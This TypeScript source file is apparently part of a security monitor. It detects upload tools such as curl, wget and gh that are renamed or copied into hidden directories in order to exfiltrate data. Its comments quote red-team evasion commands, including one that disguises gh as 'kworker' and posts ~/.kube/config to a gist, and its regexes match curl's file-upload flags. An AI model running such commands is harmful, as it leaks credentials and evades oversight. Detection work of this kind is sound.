/**
 * A program started from a scratch or hidden directory or fileless (./locations.ts), no table tool or one whose
 * own reading found no push, whose command line has a table tool's push shape: that tool, copied under another
 * name. Only there: elsewhere, many programs take `-d`, `-F` or `-T` and a URL, or say `push` or `copy`.
 */
import type { PushRecognition, SignerRecognition } from './recognize.js';
import type { PushToolSpec } from './types.js';

type Match = (spec: PushToolSpec) => PushRecognition | SignerRecognition | 'download' | null;

/**
 * A generic uploader (curl, wget: `cp "$(command -v curl)" /tmp/x`; found by red-team review, a few KiB posted
 * to a gist that way raised nothing); else a forge or registry client whose push is a sub-command of its own
 * (PushToolSpec.copiedShape; found by a later red-team review: `cp "$(command -v gh)" /tmp/.x/kworker;
 * /tmp/.x/kworker gist create ~/.kube/config` raised nothing either).
 */
export function recognizeCopy(
  index: { uploaders: readonly PushToolSpec[]; copied: readonly PushToolSpec[] },
  match: Match,
): PushRecognition | null {
  for (const spec of index.uploaders) {
    const r = match(spec);
    if (r && r !== 'download' && r.kind === 'push') return { ...r, renamed: true };
  }
  const clients: PushRecognition[] = [];
  for (const spec of index.copied) {
    const r = match(spec);
    if (r && r !== 'download' && r.kind === 'push') clients.push(r);
  }
  return bestCopiedClient(clients);
}

/**
 * curl's or wget's file upload under a download's name, from any place (`~/.cargo/bin/cargo build -T KEY URL`,
 * `~/bin/npm ci -d @KEY URL`): a renamed curl installed where the real tool lives, which no location rule tells
 * from it (rustup installs cargo in `~/.cargo/bin`), was a download and its small upload no push (found by review;
 * test/unit/rules/download-named-upload.test.ts). Only the forms that send a file (`-T FILE`, data or a form part
 * `@FILE` or `<FILE`, wget's `--post-file`/`--body-file`), to a forge or registry upload URL (the upload spec's
 * own test): no installer says `-T`, and `pip download -d DIR URL` names a directory.
 */
export function uploadUnderDownloadName(
  index: { uploaders: readonly PushToolSpec[] },
  words: readonly string[],
  match: Match,
): PushRecognition | null {
  if (!words.some((w, i) => sendsAFile(w, words[i + 1]))) return null;
  return recognizeCopy({ uploaders: index.uploaders, copied: [] }, match);
}

const UPLOAD_FILE = /^(?:-T|--upload-f(?:i(?:l(?:e)?)?)?|--post-f(?:i(?:l(?:e)?)?)?|--body-f(?:i(?:l(?:e)?)?)?)$/;
const UPLOAD_FILE_JOINED = /^(?:-T.|--(?:upload|post|body)-f[a-z]*=.)/;
const DATA = /^(?:-d|--data(?:-[a-z]+)?|--json|--expand-data|-F|--form)$/;
/**
 * A file curl reads data from: absolute, `./`, `~/`, or a name in the working directory. Not `@scope/name`, an npm
 * package (`npm install -d @acme/lib URL`: npm's `-d` is a log level), which a relative `@dir/file` reads as.
 */
const FILE_DATA = String.raw`(?:@|[^=]*=[@<])(?:[/.~]|[^/\s]+$)`;
const DATA_FILE_JOINED = new RegExp(`^(?:-[dF]|--(?:data(?:-[a-z]+)?|json|expand-data|form)=)${FILE_DATA}`);
const FILE_VALUE = new RegExp(`^${FILE_DATA}`);

function sendsAFile(word: string, next: string | undefined): boolean {
  if (UPLOAD_FILE_JOINED.test(word) || DATA_FILE_JOINED.test(word)) return true;
  if (next === undefined) return false;
  return UPLOAD_FILE.test(word) || (DATA.test(word) && FILE_VALUE.test(next));
}

const DOTTED_HOST = /^(?:[a-z0-9-]+\.)+[a-z0-9-]+$/;

/**
 * Several clients may take the same words (`push REF FILE` is oras's, `push TAR REF` crane's, `copy SRC DST`
 * crane's and skopeo's): the one whose remote gives a host wins, a transport prefix the tool declares
 * (`docker://`, `oci://`) first; ties go to the table's order. Marked renamed: no such tool has that name.
 */
function bestCopiedClient(matches: readonly PushRecognition[]): PushRecognition | null {
  let best: { r: PushRecognition; rank: number } | null = null;
  for (const r of matches) {
    if (!namesItsRegistry(r)) continue;
    const rank = (r.destinationHost === null ? 0 : 1) + (declaresPrefixOf(r.spec, r.remote) ? 2 : 0);
    if (best === null || rank > best.rank) best = { r, rank };
  }
  return best === null ? null : { ...best.r, renamed: true };
}

/**
 * An image client's copy must name a registry in its remote (`ghcr.io/evil/x`): a bare `x` or a path would be
 * Docker Hub to the tool, and is what any program's `copy a b` or `push app` says. A URL of another scheme is
 * no image reference: `push https://github.com/evil/x.git HEAD` is a copied git's, seen by its helpers. A
 * copied git itself only over `git://`, which it speaks in its own process (no helper, no ssh): `push URL` is
 * what any notifier says of an https URL.
 */
function namesItsRegistry(r: PushRecognition): boolean {
  if (r.spec.destination === 'git-remote') return /^git:\/\//i.test(r.remote ?? '');
  if (r.spec.destination !== 'image-ref') return true;
  const host = r.destinationHost;
  const remote = (r.remote ?? '').toLowerCase();
  if (/^[a-z][a-z0-9+.-]*:\/\//.test(remote) && !/^(?:docker|oci):\/\//.test(remote)) return false;
  return host !== null && DOTTED_HOST.test(host) && remote.includes(host);
}

function declaresPrefixOf(spec: PushToolSpec, remote: string | null): boolean {
  if (remote === null || spec.match.kind !== 'subcommand') return false;
  const lower = remote.toLowerCase();
  return spec.match.commands.some((c) => c.remotePrefix?.some((p) => lower.startsWith(p)) === true);
}
